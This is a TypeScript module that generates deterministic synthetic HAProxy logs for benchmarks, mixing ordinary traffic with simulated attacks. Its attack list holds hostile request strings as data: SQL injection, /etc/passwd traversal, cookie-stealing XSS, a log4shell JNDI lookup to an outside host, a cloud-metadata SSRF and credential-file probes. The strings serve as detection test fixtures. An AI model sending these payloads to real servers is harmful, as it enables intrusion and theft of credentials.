/** Pieces the log-generating benchmarks share: a seeded random source, HAProxy's time stamps, the realistic log and its file. */
import { createWriteStream } from 'node:fs';

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/** A deterministic generator (mulberry32): the same seed gives the same day. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let x = a;
    x = Math.imul(x ^ (x >>> 15), x | 1);
    x ^= x + Math.imul(x ^ (x >>> 7), x | 61);
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
  };
}

/** The traditional syslog stamp and HAProxy's [accept date] for a time (UTC). */
export function stamp(ms: number): { syslog: string; accept: string } {
  const d = new Date(ms);
  const p2 = (n: number) => String(n).padStart(2, '0');
  const hms = `${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())}`;
  return {
    syslog: `${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${hms}`,
    accept: `${p2(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${hms}.${String(d.getUTCMilliseconds()).padStart(3, '0')}`,
  };
}

/** Chooses one of `a` with the generator `r`. */
function pickOf<T>(r: () => number, a: readonly T[]): T {
  return a[Math.floor(r() * a.length)] as T;
}

/** Browsers as they really announce themselves (desktop and mobile, several OSes): long strings. */
export const BROWSER_UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.2849.68',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1.1 Safari/605.1.15',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14.7; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (iPad; CPU OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36',
  'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36',
];
/** Crawlers, monitors and scripts that are not attacks. */
export const BOT_UAS = [
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36',
  'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
  'curl/8.5.0',
  'python-requests/2.32.3',
  'Go-http-client/2.0',
  'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)',
];
/** Attack and audit tools, as their User-Agent names them. */
export const SCANNER_UAS = [
  'sqlmap/1.8.11#stable (https://sqlmap.org)',
  'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/113.0.0.0 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'Mozilla/5.0 zgrab/0.x',
  'Fuzz Faster U Fool v2.1.0-dev',
  'gobuster/3.6',
];
const HOSTS = ['www.example.com', 'shop.example.com', 'api.example.com', 'static.example.net', 'blog.example.org'];
const PAGES = [
  '/', '/products', '/products/running-shoes-trail-pro-x2', '/cart', '/checkout/shipping', '/account/orders', '/blog/2026/11/how-we-cut-latency-in-half',
  '/docs/getting-started/installation', '/help/returns-and-refunds', '/about/team',
];
const ASSETS = ['/static/css/main.4f2a9c1e.css', '/static/js/vendor.91bc7d20.chunk.js', '/static/js/app.0c5e2b71.js', '/static/img/hero-1920w.webp', '/static/fonts/inter-var-latin.woff2', '/favicon.ico', '/apple-touch-icon.png'];
const QUERIES = [
  '?utm_source=newsletter&utm_medium=email&utm_campaign=black_friday_2026&utm_content=hero_cta',
  '?q=waterproof+hiking+boots+women&sort=price_asc&page=2&size=38&color=brown',
  '?ref=homepage&fbclid=IwAR2xVb3k9pQm7Lr0Yw5HnT8cJ4dZ1sE6gU',
  '?page=3&per_page=48&filter%5Bbrand%5D=acme&filter%5Bprice_max%5D=120',
  '?gclid=Cj0KCQiA2KitBhCIARIsAPPMEhK3nZxQ7vW8yT5uR2sL4mN6bV1cX9dF0gH&utm_source=google&utm_medium=cpc',
  '?lang=de-DE&currency=EUR',
];
const API = ['/api/v1/cart/items', '/api/v1/products?ids=1182,1183,1190,2044&fields=name,price,stock,images', '/api/v2/orders?status=shipped&limit=25&cursor=eyJpZCI6MTIzNDU2fQ', '/api/v1/session/refresh', '/graphql?operationName=ProductList&variables=%7B%22first%22%3A24%7D'];
const ATTACK_PATHS = [
  '/.env', '/.git/config', '/wp-config.php.bak', '/.aws/credentials', '/phpmyadmin/index.php', '/wp-admin/setup-config.php', '/backup.sql', '/db.tar.gz',
  '/index.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--', "/products?id=1' OR '1'='1", '/search?q=1%20AND%20SLEEP(5)',
  '/static/..%2f..%2f..%2f..%2fetc%2fpasswd', '/download?file=../../../../etc/passwd', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
  '/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E', '/?x=${jndi:ldap://198.51.100.77:1389/Exploit}', '/proxy?url=http://169.254.169.254/latest/meta-data/iam/',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/actuator/env', '/server-status',
];

/** A request id as HAProxy's default unique-id-format writes it (`%{+X}o %ci:%cp_%fi:%fp_%Ts_%rt:%pid`). */
function rid(i: number, t: number): string {
  return `C0A80A0B:${(40000 + (i % 25000)).toString(16).toUpperCase()}_0A000005:01BB_${Math.floor(t / 1000).toString(16).toUpperCase()}_${(i & 0xfffff).toString(16).toUpperCase().padStart(4, '0')}:${(0x5e0a).toString(16).toUpperCase()}`;
}

/** `<134>1 2026-11-25T14:00:00.123456+00:00 lb1 haproxy 2231 - - `: the rfc5424 framing of the intake's ring (global.njk). */
function frame(t: number, pri = 134): string {
  const iso = new Date(t).toISOString();
  return `<${pri}>1 ${iso.slice(0, 23)}000+00:00 lb1 haproxy 2231 - - `;
}

export interface RealisticLogOptions {
  /** Seed of the generator. Default 42. */
  seed?: number;
  /** Distinct ordinary client addresses. Default 20,000. */
  clients?: number;
  /** Average lines per second of log time. Default 200. */
  rate?: number;
}

/**
 * A realistic log of this project's own frontend (templates/haproxy/frontend.njk's
 * log-format, rfc5424 framing as the intake's ring sends it), as long as real ones:
 * full browser and bot User-Agents, Host captures, query strings, about 15%
 * IPv6 clients, attacks inside (scanners, probes, injections, traversal,
 * log4shell, SSRF, brute force, enumeration, a flood), HAProxy's own 429/408
 * denials, TLS handshake failures, server events. Deterministic for a seed.
 */
export function* realisticLog(n: number, o: RealisticLogOptions = {}): Generator<string> {
  const r = rng(o.seed ?? 42);
  const nClients = o.clients ?? 20_000;
  const step = 1000 / (o.rate ?? 200);
  const clients: string[] = [];
  for (let i = 0; i < nClients; i++) {
    if (r() < 0.15) clients.push(`2a02:${(0x1000 + Math.floor(r() * 0xefff)).toString(16)}:${Math.floor(r() * 0xffff).toString(16)}:${Math.floor(r() * 0xff).toString(16)}::${Math.floor(r() * 0xffff).toString(16)}`);
    else clients.push(`${[81, 92, 151, 176, 185, 212][i % 6]}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${1 + Math.floor(r() * 254)}`);
  }
  const clientUa = clients.map(() => (r() < 0.93 ? pickOf(r, BROWSER_UAS) : pickOf(r, BOT_UAS)));
  const attackers = Array.from({ length: 60 }, (_, k) => (k % 5 === 4 ? `2001:db8:bad:${k.toString(16)}::1` : `203.0.113.${k + 1}`));
  let t = Date.UTC(2026, 10, 25, 6, 0, 0);
  // Episodes: a flood and a brute force run for a while from one address each.
  const floodFrom = Math.floor(n * 0.3);
  const floodTo = floodFrom + Math.min(40_000, Math.max(12_000, Math.floor(n * 0.04)));
  for (let i = 0; i < n; i++) {
    t += step * 2 * r();
    const x = r();
    if (x < 0.004) {
      const ip = r() < 0.5 ? pickOf(r, attackers) : pickOf(r, clients);
      const port = 1024 + Math.floor(r() * 64000);
      const detail = r() < 0.5 ? ' (error:0A000416:SSL routines::sslv3 alert certificate unknown)' : r() < 0.5 ? ' (error:0A00006C:SSL routines::bad key share)' : '';
      yield `${frame(t, 134)}${ip}:${port} [${stamp(t).accept}] web~/1: ${r() < 0.8 ? 'SSL handshake failure' : 'Timeout during SSL handshake'}${detail}`;
      continue;
    }
    if (x < 0.0045) {
      const s = `s${1 + Math.floor(r() * 3)}`;
      const e = pickOf(r, [
        `Server app/${s} is DOWN, reason: Layer4 connection problem, info: "Connection refused", check duration: 0ms. 2 active and 0 backup servers left. 0 sessions active, 0 requeued, 0 remaining in queue.`,
        `Server app/${s} is UP, reason: Layer7 check passed, code: 200, check duration: 3ms. 3 active and 0 backup servers online. 0 sessions requeued, 0 total in queue.`,
        `Health check for server api/${s} failed, reason: Layer7 wrong status, code: 503, info: "Service Unavailable", check duration: 12ms, status: 1/3 UP.`,
      ]);
      yield `${frame(t, e.startsWith('Server app/s') && e.includes('DOWN') ? 129 : 133)}${e}`;
      continue;
    }
    let ip: string;
    let ua: string;
    let method = 'GET';
    let path: string;
    let status = 200;
    let be = 'app';
    let srv = `s${1 + (i % 3)}`;
    let term = '----';
    let host = pickOf(r, HOSTS);
    let timers: string;
    if (i >= floodFrom && i < floodTo && (i & 7) !== 0) {
      ip = attackers[0]!;
      ua = 'python-requests/2.32.3';
      path = '/api/v1/products?ids=1182&fields=price';
      be = 'api';
      host = 'api.example.com';
    } else if (x < 0.03) {
      // Attacks from a few dozen addresses.
      ip = pickOf(r, attackers);
      const y = r();
      if (y < 0.25) {
        ua = pickOf(r, SCANNER_UAS);
        path = r() < 0.5 ? pickOf(r, ATTACK_PATHS) : `/${Math.floor(r() * 1e6).toString(36)}.php`;
        status = r() < 0.8 ? 404 : 403;
      } else if (y < 0.55) {
        ua = pickOf(r, BROWSER_UAS);
        path = pickOf(r, ATTACK_PATHS);
        status = r() < 0.7 ? 404 : r() < 0.5 ? 403 : 200;
      } else if (y < 0.7) {
        ua = pickOf(r, BROWSER_UAS);
        method = 'POST';
        path = r() < 0.5 ? '/wp-login.php' : '/account/login';
        status = r() < 0.7 ? 401 : 200;
        host = 'blog.example.org';
      } else if (y < 0.75) {
        ua = '${jndi:ldap://198.51.100.77:1389/a}';
        path = '/';
        status = 200;
      } else {
        ua = pickOf(r, BROWSER_UAS);
        path = `/${Math.floor(r() * 1e6).toString(36)}/${Math.floor(r() * 1e4).toString(36)}`;
        status = 404;
      }
    } else {
      const c = Math.floor(r() * r() * nClients); // a few heavy clients, a long tail
      ip = clients[c]!;
      ua = clientUa[c]!;
      const y = r();
      if (y < 0.5) {
        path = pickOf(r, ASSETS);
        status = r() < 0.35 ? 304 : 200;
        be = 'static';
      } else if (y < 0.78) path = pickOf(r, PAGES) + (r() < 0.35 ? pickOf(r, QUERIES) : '');
      else if (y < 0.9) {
        path = pickOf(r, API);
        method = r() < 0.25 ? 'POST' : 'GET';
        be = 'api';
        host = 'api.example.com';
        status = method === 'POST' ? 201 : 200;
      } else if (y < 0.95) {
        path = `/products/${Math.floor(r() * 5000)}-discontinued`;
        status = r() < 0.7 ? 404 : 301;
      } else if (y < 0.96) {
        method = 'POST';
        path = '/account/login';
        status = r() < 0.85 ? 302 : 401;
      } else if (y < 0.975) {
        path = pickOf(r, PAGES);
        status = pickOf(r, [500, 502, 503, 504]);
      } else if (y < 0.985) {
        path = pickOf(r, PAGES);
        status = r() < 0.5 ? 429 : 408;
        term = status === 429 ? 'PR--' : 'cR--';
        srv = '<NOSRV>';
      } else path = pickOf(r, PAGES) + pickOf(r, QUERIES);
    }
    if (srv === '<NOSRV>') {
      be = 'web';
      timers = `${status === 408 ? 30000 : 0}/-1/-1/-1/${status === 408 ? 30000 : 0}`;
    } else timers = `${Math.floor(r() * 4)}/0/${Math.floor(r() * 3)}/${Math.floor(r() * 120)}/${Math.floor(r() * 160)}`;
    const bytes = status === 304 ? 0 : 180 + Math.floor(r() * 48000);
    // 5% arrive through a trusted proxy: the TCP peer is the proxy, rip= the client.
    const peer = r() < 0.05 ? `10.0.0.${5 + Math.floor(r() * 3)}` : ip;
    const port = 1024 + Math.floor(r() * 64000);
    yield `${frame(t)}${peer}:${port} [${stamp(t).accept}] web~ ${be}/${srv} ${timers} ${status} ${bytes} - - ${term} ${100 + Math.floor(r() * 300)}/${100 + Math.floor(r() * 300)}/${Math.floor(r() * 40)}/${Math.floor(r() * 12)}/0 0/0 {${host}|${ua}} "${method} ${path} HTTP/${r() < 0.6 ? '2.0' : '1.1'}" rip=${ip} rid=${rid(i, t)}`;
  }
}

/** Writes `n` lines of realisticLog (with options `o`) to `file`, in large pieces. */
export async function writeRealisticLog(file: string, n: number, o: RealisticLogOptions = {}): Promise<void> {
  const w = createWriteStream(file);
  let buf: string[] = [];
  for (const line of realisticLog(n, o)) {
    buf.push(line);
    if (buf.length === 4096) {
      if (!w.write(buf.join('\n') + '\n')) await new Promise<void>((r) => w.once('drain', () => r()));
      buf = [];
    }
  }
  if (buf.length) w.write(buf.join('\n') + '\n');
  await new Promise<void>((r, j) => w.end((e?: Error | null) => (e ? j(e) : r())));
}
